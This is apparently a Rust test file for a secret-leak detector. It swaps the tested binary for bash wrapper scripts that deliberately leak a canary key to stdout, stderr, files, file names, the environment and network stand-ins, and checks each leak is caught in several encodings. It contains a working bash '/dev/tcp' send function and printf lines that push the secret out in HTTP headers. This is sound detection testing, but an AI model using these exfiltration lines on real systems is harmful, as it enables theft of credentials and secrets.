//! Leaks that are planted: the binary is replaced by a script that runs it, and lets the secret out on the way. Each
//! must be seen, where it is and as it is written.

use std::{
    collections::BTreeSet,
    env, fs,
    path::PathBuf,
    process,
    sync::atomic::{AtomicUsize, Ordering},
};

use base64::{Engine as _, engine::general_purpose::STANDARD};
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};

use crate::{
    binary,
    commands::served,
    drive::{Sighting, Sink, drive},
    process::script,
    scanner::{Encoding, hex},
    server::{Server, answer},
    situations::{Circumstance, Situation, interrupted, of},
    subject::Subject,
    subjects, terminal,
};

/// A script in the place of the binary, for as long as it lives.
struct Leaky(PathBuf);

impl Leaky {
    /// Does `leak`, in which `$TEXT` is what to let out and `$KEY` a secret as it is, and becomes the binary.
    fn new(leak: &str, text: &str, key: &str) -> Self {
        static COUNT: AtomicUsize = AtomicUsize::new(0);
        let count = COUNT.fetch_add(1, Ordering::Relaxed);
        let path = env::temp_dir().join(format!("keyway-leaky-{}-{count}", process::id()));
        let quoted = |text: &str| format!("'{}'", text.replace('\'', r"'\''"));
        let lines = [
            "#!/usr/bin/env bash".to_owned(),
            "send() { at=${1#http://}; cat > /dev/tcp/${at%:*}/${at##*:}; }".to_owned(),
            format!("TEXT={} KEY={}", quoted(text), quoted(key)),
            leak.to_owned(),
            format!("exec '{}' \"$@\"", binary().display()),
        ];
        script(&path, &lines.join("\n"));
        Self(path)
    }
}

impl Drop for Leaky {
    fn drop(&mut self) {
        let _ = fs::remove_file(&self.0);
    }
}

/// The one whose key goes into a header, with every odd character in it.
fn subject(all: &[Subject]) -> &Subject {
    all.iter().find(|subject| subject.name() == "canary/header").unwrap()
}

fn called(situations: Vec<Situation>, name: &str) -> Situation {
    situations.into_iter().find(|situation| situation.name.ends_with(name)).unwrap()
}

/// Runs a situation with a leak, and expects it to be seen: there, so written, and nowhere else.
#[track_caller]
fn seen(all: &[Subject], situation: &Situation, leak: &str, text: &str, expected: Option<(Sink, Encoding)>) {
    let leaky = Leaky::new(leak, text, subject(all).secret());
    let outcome = drive(&leaky.0, subject(all), &Subject::canary(all), situation).unwrap();
    let expected = expected.map(|(sink, encoding)| Sighting { sink, encodings: BTreeSet::from([encoding]) });
    assert_eq!(outcome.sightings, expected.into_iter().collect(), "{leak}: {:?}", outcome.faults);
}

#[test]
fn a_leak_is_seen_in_every_sink_and_in_every_encoding() {
    let (_, all) = subjects();
    let secret = subject(&all).secret();
    let json = serde_json::Value::from(secret).to_string();
    let hex = hex(secret);
    let html =
        secret.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;").replace('\'', "&#39;");
    let percent = utf8_percent_encode(secret, NON_ALPHANUMERIC).to_string();
    let base64 = STANDARD.encode(format!("{{\"api_key\":\"{secret}\"}}"));
    let numbers = format!("{:?}", secret.as_bytes());
    let part = &secret[secret.len() - 20..];
    // With stdout and stderr elsewhere: it may live longer than the binary, which is not waited for then.
    let child = r#"exec 8> >(exec bash -c 'read -r _' leak "$TEXT" >/dev/null 2>&1)"#;
    let elsewhere = r#"printf 'GET / HTTP/1.1\r\nx-debug: %s\r\n\r\n' "$TEXT" | send "$ELSEWHERE""#;
    // The key stands in its place, and some of it in another header.
    let head = r"GET /me HTTP/1.1\r\nx-canary: %s\r\nx-debug: %s\r\n\r\n";
    let target = format!(r#"printf '{head}' "$KEY" "$TEXT" | send "$TARGET""#);
    let mut situation = called(of(subject(&all), &all), ": answer 0");
    for (name, value) in [("ELSEWHERE", "{elsewhere}"), ("TARGET", "{target}")] {
        situation.environment.push((name.to_owned(), value.to_owned()));
    }
    for (leak, text, sink, encoding) in [
        (r#"echo "$TEXT""#, secret, Sink::Stdout, Encoding::Raw),
        (r#"echo "$TEXT" >&2"#, percent.as_str(), Sink::Stderr, Encoding::Percent),
        (r#"echo "$TEXT" > "$TMPDIR/debug""#, base64.as_str(), Sink::Files, Encoding::Base64),
        (r#"echo "$TEXT" > core"#, secret, Sink::Files, Encoding::Raw),
        // By the shell itself: a program's arguments would be seen too.
        (r#": > "$HOME/$TEXT""#, hex.as_str(), Sink::FileNames, Encoding::Hex),
        (child, json.as_str(), Sink::CommandLine, Encoding::Json),
        ("export TEXT", html.as_str(), Sink::Environment, Encoding::Html),
        (elsewhere, numbers.as_str(), Sink::Elsewhere, Encoding::Numbers),
        (target.as_str(), part, Sink::Target, Encoding::Part),
    ] {
        seen(&all, &situation, leak, text, Some((sink, encoding)));
    }
    // The script itself leaks nothing.
    seen(&all, &situation, "", secret, None);
}

#[test]
fn a_leak_is_seen_on_a_terminal() {
    if !terminal::is_there() {
        return;
    }
    let (_, all) = subjects();
    let secret = subject(&all).secret();
    let situation = called(of(subject(&all), &all), ": typed");
    seen(&all, &situation, r#"echo "$TEXT" >&2"#, secret, Some((Sink::Terminal, Encoding::Raw)));
    seen(&all, &situation, "", secret, None);
}

#[test]
fn a_leak_is_seen_when_a_signal_ends_it() {
    let (_, all) = subjects();
    let secret = subject(&all).secret();
    let situation = called(interrupted(subject(&all)), ": SIGTERM");
    seen(&all, &situation, r#"echo "$TEXT" > "$TMPDIR/left""#, secret, Some((Sink::Files, Encoding::Raw)));
}

#[test]
fn a_leak_is_seen_in_answers() {
    let (_, all) = subjects();
    let secret = subject(&all).secret();
    let echo = Server::start(|_, request| answer("404 No", &[], request));
    // Says where the stand-ins are, as the binary does, and they are others.
    let leak = format!(
        "echo 'Stand-ins are listening on {}'\ntrap 'exit 0' TERM\nwhile read -r -t 20 _; do :; done\nexit 0",
        echo.origin()
    );
    let Situation { circumstance: Circumstance::Served(mut requests), .. } = served(subject(&all)) else {
        panic!()
    };
    requests.truncate(1);
    let situation = Situation { circumstance: Circumstance::Served(requests), ..served(subject(&all)) };
    seen(&all, &situation, &leak, secret, Some((Sink::Answers, Encoding::Raw)));
}

#[test]
fn a_key_that_stands_twice_or_not_at_all_is_a_fault() {
    let (_, all) = subjects();
    let subject = subject(&all);
    let key = subject.secret();
    let rest = |request: String| subject.without_secrets(request.as_bytes());
    let right = rest(format!("GET /me HTTP/1.1\r\nx-canary: {key}\r\nx-other: 1\r\n\r\n")).unwrap();
    assert_eq!(right, b"GET /me HTTP/1.1\r\nx-canary: \r\nx-other: 1\r\n\r\n");
    for wrong in [
        "GET /me HTTP/1.1\r\n\r\n".to_owned(),
        "GET /me HTTP/1.1\r\nx-canary: other\r\n\r\n".to_owned(),
        format!("GET /me HTTP/1.1\r\nx-other: {key}\r\n\r\n"),
        format!("GET /me HTTP/1.1\r\nx-canary: {key}\r\nX-Canary: {key}\r\n\r\n"),
        format!("GET /me HTTP/1.1\r\nx-canary: {key}{key}\r\n\r\n"),
    ] {
        assert!(rest(wrong.clone()).is_none(), "{wrong}");
    }
}
